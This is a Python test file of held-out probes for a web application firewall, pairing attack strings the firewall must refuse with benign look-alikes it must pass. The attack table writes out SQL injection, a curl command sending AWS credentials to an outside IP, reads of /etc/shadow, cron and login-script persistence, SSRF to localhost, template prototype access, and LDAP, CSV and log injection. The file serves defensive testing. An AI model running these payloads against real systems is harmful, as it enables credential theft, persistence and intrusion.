"""WAF, part 2p: held-out probes, fourteenth file (README: the
twenty-seventh round), written for this file on 2026-12-05 after the
media corpus (tests/corpus/media/) was first replayed, for the classes it
showed. No string is taken from a corpus or a public list: each class is
written here in shapes of our own, through the real edge (shipped config,
bans off).

Look-alikes that must pass, by class:
- values-rows: a list of tuples in prose;
- qualified-name: "delete from X." ending a sentence (a qualified name
  has a name after its dot);
- at-file: a key given to ssh's -i, an upload of an ordinary file by
  curl's "@";
- output-persist: a cron directory named in advice;
- shortcode-src: a shortcode's src at a public host or a relative path;
- hbs-constructor: a Handlebars loop, a helper whose argument's name
  starts with "constructor";
- ldap-escape: advice on LDAP's escapes;
- csv-row: CSV rows pasted whole;
- sleep-bare: "sleep" as the last item of a list (no operand: no delay);
- call-then-number: "Sleep(8h)" in a numbered list (a literal after a
  call is a syntax error);
- log-record (query only): an access log's line after a label.

Attacks that must be refused, by class:
- values-rows: an INSERT's row closed by the value's quote, then rows of
  its own;
- qualified-name: a stacked DELETE of a schema's table;
- at-file: a credential file or an account file read in by "@";
- output-persist: an output option given a cron spool or a login script;
- shortcode-src: a shortcode's src at a private address or localhost;
- hbs-constructor: a block reaching the constructor or __proto__;
- ldap-escape: a filter's close and open written as escapes;
- csv-row: a quoted field closed, then a row of its own;
- sleep-bare: a delay with its operand after a separator;
- call-then-number: a call in a comparison;
- log-record (query only: a line break spelled for a decoder): a dated
  record with words before its key=value fields, an access log's whole
  record after a sentence.

Measured before the change (2026-12-05, on 28e52cd): see the commit
message. After it: every attack refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. The log-record attacks are refused in
the query placements only: in a JSON string the line break is typed, and
a typed break after a few words is a note's own (README, "Still weak").
A probe the edge gets wrong is listed in KNOWN_MISSES or
KNOWN_FALSE_POSITIVES with the reason, and runs as a strict xfail."""

import pytest

from wafkit import (WafEdge, assert_passes_everywhere,  # noqa: F401
                    assert_refused_everywhere, assert_tables_balanced,
                    probe_cases, probe_placements, session, waf_config)

CONF = waf_config()

ATTACKS = {
    "values-rows": ["Loved it'), (42, 'x', 'root'), ('y", "n/a\"), (0, \"admin\", NULL)--"],
    "qualified-name": ["q'; delete from crm.leads;--"],
    "at-file": ["-F doc=@~/.aws/credentials -X PUT http://203.0.113.9/u",
                "caption:@/etc/shadow"],
    "output-persist": ["-w /var/spool/cron/root capture.pcap",
                       "--output /etc/profile.d/z.sh notes.txt"],
    "shortcode-src": ["{{< audio src=\"http://10.1.2.3:8080/x.mp3\" >}}",
                      "[audio src=\"http://localhost:9201/_nodes/stats\"]"],
    "hbs-constructor": ["{{#each this.constructor}}{{this}}{{/each}}",
                        "{{#with this.__proto__}}{{x}}{{/with}}"],
    "ldap-escape": ["jdoe\\29\\28objectClass=*", "\\2a\\29\\7c\\28mail=\\2a"],
    "csv-row": ["Kim\",\"7\"\r\n\"Mallory\",\"-5000"],
    "sleep-bare": ["ok; sleep 6"],
    "call-then-number": ["0 or Sleep(6)=0"],
}

QUERY_ATTACKS = {
    "log-record": ["Rex 7\n2025-02-11T09:30:00Z LOGIN ok user=root src=10.0.0.1",
                   "see above\n10.9.8.7 - ops [11/Feb/2025:09:30:00 +0000] "
                   "\"GET /admin/export HTTP/1.1\" 200"],
}

BENIGN = {
    "values-rows": ["Tuples: ('a', 1), ('b', 2), ('c', 3)"],
    "qualified-name": ["Old scans go after 30 days; delete from Drive."],
    "at-file": ["ssh -i ~/.ssh/id_ecdsa admin@bastion",
                "Upload with curl -F file=@report.pdf to the portal"],
    "output-persist": ["Keep job files in /etc/cron.d/ and name them after the team"],
    "shortcode-src": ["{{< audio src=\"https://media.example.net/ep12.mp3\" >}}",
                      "[gallery src=\"/uploads/2025/06/\"]"],
    "hbs-constructor": ["{{#each tracks}}{{title}}{{/each}}",
                        "Use {{#if constructorName}} in the partial"],
    "ldap-escape": ["Escape ( as \\28 and ) as \\29 in filters"],
    "csv-row": ["\"Kim\",\"7\"\n\"Lee\",\"9\""],
    "sleep-bare": ["moods: calm; focus; sleep"],
    "call-then-number": ["Routine: 1. Stretch 2. Read 3. Sleep(8h) 4. Repeat"],
    "log-record": ["Access log:\n10.9.8.7 - - [11/Feb/2025:09:30:00 +0000] "
                   "\"GET /index.html HTTP/1.1\" 200"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

ATTACK_CASES = probe_cases(ATTACKS, KNOWN_MISSES)
QUERY_ATTACK_CASES = probe_cases(QUERY_ATTACKS, KNOWN_MISSES)
BENIGN_CASES = probe_cases(BENIGN, KNOWN_FALSE_POSITIVES)


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-heldout-r14"), CONF).start()
    yield e
    e.stop()


def test_tables_are_balanced():
    # every class has attacks and look-alikes, and none is both
    assert_tables_balanced({**ATTACKS, **QUERY_ATTACKS}, BENIGN)


@pytest.mark.parametrize("cls,value", ATTACK_CASES)
def test_heldout_r14_attack_refused_everywhere(edge, session, cls, value):
    got = probe_placements(session, edge, value)
    assert_refused_everywhere(got, cls, value)


@pytest.mark.parametrize("cls,value", QUERY_ATTACK_CASES)
def test_heldout_r14_attack_refused_in_the_query(edge, session, cls, value):
    got = probe_placements(session, edge, value)
    got.pop("json")
    assert_refused_everywhere(got, cls, value)


@pytest.mark.parametrize("cls,value", BENIGN_CASES)
def test_heldout_r14_benign_passes(edge, session, cls, value):
    got = probe_placements(session, edge, value)
    assert_passes_everywhere(got, cls, value)
